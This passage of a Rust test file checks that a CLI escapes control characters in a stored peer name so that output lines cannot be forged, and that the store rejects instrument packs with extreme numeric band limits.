    // `--json` stays JSON that means the same (the escape is JSON's own).
    let out = cli(&dir, &["--json", "peers"]);
    assert_eq!(out.status.code(), Some(0), "{}", crate::cli::stderr(&out));
    assert!(raw_controls(&crate::cli::stdout(&out)).is_empty());
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json[0]["peer"]["name"], stored);
    let out = cli(&dir, &["peers"]);
    let o = crate::cli::stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{}", crate::cli::stderr(&out));
    assert!(o.contains("EVIL-01"), "{o}");
    assert!(raw_controls(&o).is_empty(), "{o:?}");
    assert!(
        !o.lines().any(|l| l.starts_with("Enrolled")),
        "a forged line: {o}"
    );
}

#[test]
fn an_instrument_pack_with_extreme_bands_is_refused_without_a_crash() {
    let mut centre = site("KLP-01", Country::Lt, Mode::Centre);
    let builtin: serde_json::Value =
        serde_json::from_str(include_str!("../../assets/instruments/atrama-spj.json")).unwrap();
    let cases: [fn(&mut serde_json::Value); 2] = [
        |p| p["bands"][0]["min"] = serde_json::json!(i64::MIN),
        |p| p["bands"][0]["max"] = serde_json::json!(i64::MAX),
    ];
    for change in cases {
        let mut pack = builtin.clone();
        pack["version"] = serde_json::json!(99);
        change(&mut pack);
        let err = centre
            .store
            .import_instrument(&pack.to_string())
            .unwrap_err();
        assert!(err.to_string().contains("band"), "{err}");
    }
    assert!(
        centre
            .store
            .instruments()
            .unwrap()
            .iter()
            .all(|i| i.version != 99)
    );
}
